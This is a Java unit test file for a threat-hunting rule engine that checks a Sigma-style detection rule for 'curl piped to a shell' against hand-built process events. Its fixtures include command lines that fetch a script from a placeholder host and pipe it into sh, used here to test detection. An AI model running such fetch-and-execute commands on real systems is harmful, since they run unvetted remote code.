package org.fleetrec.detection.hunt;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.IntNode;
import org.fleetrec.detection.alert.Level;
import org.fleetrec.model.EventCodec;
import org.junit.jupiter.api.Test;

import java.util.ArrayList;
import java.util.Collections;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** A rule tried on documents given by hand: one answer each, in order, with a note where a document cannot mean what it seems to. */
class RuleTrialTest {
    private static final String CURL_TO_SHELL = """
            title: curl piped to a shell
            logsource: {product: linux, category: process_creation}
            detection:
              sel:
                Image|endswith: /curl
                CommandLine|contains: '| sh'
              condition: sel
            level: HIGH
            tags: [attack.execution]
            """;

    private static JsonNode json(String text) throws Exception {
        return EventCodec.mapper().readTree(text);
    }

    private static JsonNode exec(String image, String commandLine) throws Exception {
        return json("""
                {"event": {"dataset": "process", "action": "executed"}, "host": {"os": {"type": "linux"}},
                 "process": {"executable": "%s", "command_line": "%s"}}""".formatted(image, commandLine));
    }

    @Test
    void eachDocumentGetsItsOwnAnswer() throws Exception {
        HuntRule rule = HuntRule.parse(CURL_TO_SHELL);
        List<RuleTrial.Outcome> outcomes = RuleTrial.run(rule, List.of(
                exec("/usr/bin/curl", "curl -s https://x.example/i | sh"),
                exec("/usr/bin/curl", "curl -s https://x.example/i -o i"),
                exec("/usr/bin/wget", "wget -qO- https://x.example/i | sh"),
                IntNode.valueOf(7),
                json("{\"event.dataset\": \"process\", \"process.executable\": \"/usr/bin/curl\"}")));
        assertEquals(List.of(true, false, false, false, false), outcomes.stream().map(RuleTrial.Outcome::matched).toList());
        assertEquals(List.of(0, 1, 2, 3, 4), outcomes.stream().map(RuleTrial.Outcome::index).toList());
        assertNull(outcomes.get(0).note());
        assertEquals("not a JSON object", outcomes.get(3).note());
        assertTrue(outcomes.get(4).note().contains("event.dataset") && outcomes.get(4).note().contains("nest"), outcomes.get(4).note());
    }

    @Test
    void theRuleIsNamedAsAlertsNameIt() throws Exception {
        HuntRule rule = HuntRule.parse(CURL_TO_SHELL);
        assertEquals(HuntRule.SOURCE, rule.ref().id(), "a rule without an id is named by where it came from");
        assertEquals("curl piped to a shell", rule.ref().title());
        assertEquals(Level.HIGH, rule.ref().level());
        assertEquals(List.of("attack.execution"), rule.ref().tags());
        assertEquals(Level.MEDIUM, HuntRule.parse(CURL_TO_SHELL.replace("level: HIGH", "level: loud")).ref().level());
    }

    @Test
    void tooManyDocumentsOrABadRuleAreRefused() throws Exception {
        HuntRule rule = HuntRule.parse(CURL_TO_SHELL);
        List<JsonNode> many = new ArrayList<>(Collections.nCopies(RuleTrial.MAX_EVENTS, exec("/usr/bin/curl", "curl | sh")));
        assertEquals(RuleTrial.MAX_EVENTS, RuleTrial.run(rule, many).stream().filter(RuleTrial.Outcome::matched).count());
        many.add(exec("/usr/bin/curl", "curl"));
        HuntRefused tooMany = assertThrows(HuntRefused.class, () -> RuleTrial.run(rule, many));
        assertTrue(tooMany.getMessage().contains("at most " + RuleTrial.MAX_EVENTS), tooMany.getMessage());

        HuntRefused near = assertThrows(HuntRefused.class, () -> HuntRule.parse(CURL_TO_SHELL.replace("condition: sel", "condition: sel | near x")));
        assertTrue(near.getMessage().startsWith("the rule was refused"), near.getMessage());
        HuntRefused noDetection = assertThrows(HuntRefused.class, () -> HuntRule.parse("title: t\nlogsource: {product: linux}\n"));
        assertTrue(noDetection.getMessage().contains("detection"), noDetection.getMessage());
        assertFalse(assertThrows(HuntRefused.class, () -> HuntRule.parse(null)).getMessage().isBlank());
    }
}
